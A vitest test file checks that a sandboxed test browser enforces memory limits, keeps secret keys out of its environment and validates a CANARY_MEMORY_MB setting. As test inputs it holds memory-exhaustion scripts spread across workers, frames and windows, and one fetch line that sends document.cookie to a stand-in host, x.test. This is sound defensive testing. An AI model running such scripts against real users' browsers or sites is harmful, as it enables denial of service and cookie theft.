import { readFileSync } from "node:fs";
import { memoryLimitMb } from "@scriptorium/isolated-browser/limit-memory";
import { memoryOf, processesOfGroup } from "@scriptorium/isolated-browser/process-memory";
import { afterAll, describe, expect, it, vi } from "vitest";
import { openTestBrowser, runSample } from "./canary.test-support.ts";

const LIMIT_MB = 768;
/** By how much a browser may exceed the limit before it is terminated. */
const MARGIN_MB = 512;
const browser = openTestBrowser(LIMIT_MB);
afterAll(() => browser.close());

/** Code that fills buffers of 8 GB in total as fast as possible and keeps them. */
const FILL =
	"const kept = []; for (let i = 0; i < 128; i++) { const b = new Uint8Array(64 << 20).fill(1); kept.push(b); }";
const url = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}]))`;

/** Runs a script and independently measures the peak memory of its browser in MB. */
async function runMeasured(body: string) {
	let peak = 0;
	const timer = setInterval(() => {
		const pid = browser.pid();
		if (pid !== null) peak = Math.max(peak, memoryOf(processesOfGroup(pid)));
	}, 5);
	try {
		const report = await runSample(browser, body);
		return { report, peakMb: peak / 1024 / 1024 };
	} finally {
		clearInterval(timer);
	}
}

describe.skipIf(process.platform !== "linux")("memory of the test browser", () => {
	it.each([
		["a page", FILL],
		[
			"a page that continues after a failed allocation",
			`for (;;) { try { ${FILL} } catch (thrown) { document.title = thrown } }`,
		],
		["several workers", `for (let i = 0; i < 4; i++) new Worker(${url(FILL)})`],
		[
			"several frames",
			`for (let i = 0; i < 4; i++) document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>' + ${JSON.stringify(FILL)} + '</' + 'script>' }))`,
		],
		[
			"windows without an opener",
			`for (let i = 0; i < 4; i++) open(URL.createObjectURL(new Blob(['<script>' + ${JSON.stringify(FILL)} + '</' + 'script>'], { type: 'text/html' })), '_blank', 'noopener'); ${FILL}`,
		],
		[
			"blobs, which another process keeps",
			"const kept = []; const b = new Uint8Array(32 << 20).fill(1); for (let i = 0; i < 256; i++) kept.push(new Blob([b]));",
		],
		[
			"memory of WebAssembly",
			"const kept = []; for (let i = 0; i < 64; i++) { const m = new WebAssembly.Memory({ initial: 1024 }); new Uint8Array(m.buffer).fill(1); kept.push(m); }",
		],
	])("is limited as a whole: %s", async (_, body) => {
		const { report, peakMb } = await runMeasured(body);
		expect(report).toMatchObject({
			answer: "none",
			reason: `The browser used more than ${LIMIT_MB} MB of memory.`,
			evidence: [],
		});
		expect(peakMb).toBeLessThan(LIMIT_MB + MARGIN_MB);
	});

	it("does not end the run of an ordinary script, even after one that exceeded the limit", async () => {
		const { report, peakMb } = await runMeasured("document.body.style.background = 'pink'");
		expect(report).toMatchObject({ answer: "ran", evidence: [] });
		expect(peakMb).toBeLessThan(LIMIT_MB);
	});

	it("keeps evidence from before the termination", async () => {
		const report = await runSample(
			browser,
			`fetch('https://x.test/', { method: 'POST', mode: 'no-cors', body: document.cookie }).finally(() => { ${FILL} })`,
		);
		expect(report).toMatchObject({ answer: "none", evidence: [{ what: "cookie", host: "x.test" }] });
	});
});

describe.skipIf(process.platform !== "linux")("the browser's processes", () => {
	it("each have a limit, which holds between two polls of their total, and do not know the service role's key", async () => {
		vi.stubEnv("SUPABASE_SERVICE_ROLE_KEY", "the-key");
		const started = openTestBrowser(LIMIT_MB);
		try {
			await started.get();
			const pids = processesOfGroup(started.pid() ?? 0);
			expect(pids.length).toBeGreaterThan(1);
			for (const pid of pids) {
				const bytes = /^Max data size\s+(\d+)\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/limits`, "utf8"))?.slice(1);
				for (const limit of bytes ?? ["unlimited"]) {
					expect(Number(limit)).toBeLessThan((LIMIT_MB + MARGIN_MB) * 1024 * 1024);
				}
			}
			expect(readFileSync(`/proc/${started.pid()}/environ`, "utf8")).not.toContain("the-key");
		} finally {
			vi.unstubAllEnvs();
			await started.close();
		}
	});
});

describe("CANARY_MEMORY_MB", () => {
	it.each([
		[{}, 1_024],
		[{ CANARY_MEMORY_MB: "" }, 1_024],
		[{ CANARY_MEMORY_MB: "2048" }, 2_048],
	])("%j is a limit of %i MB", (environment, limit) =>
		expect(memoryLimitMb(environment, "CANARY_MEMORY_MB")).toBe(limit),
	);

	it.each(["511", "1.5e9.", "-1", "1000.5", "unlimited", "Infinity"])("cannot be %s", (text) => {
		expect(() => memoryLimitMb({ CANARY_MEMORY_MB: text }, "CANARY_MEMORY_MB")).toThrow(
			/CANARY_MEMORY_MB must be a whole number/,
		);
	});
});
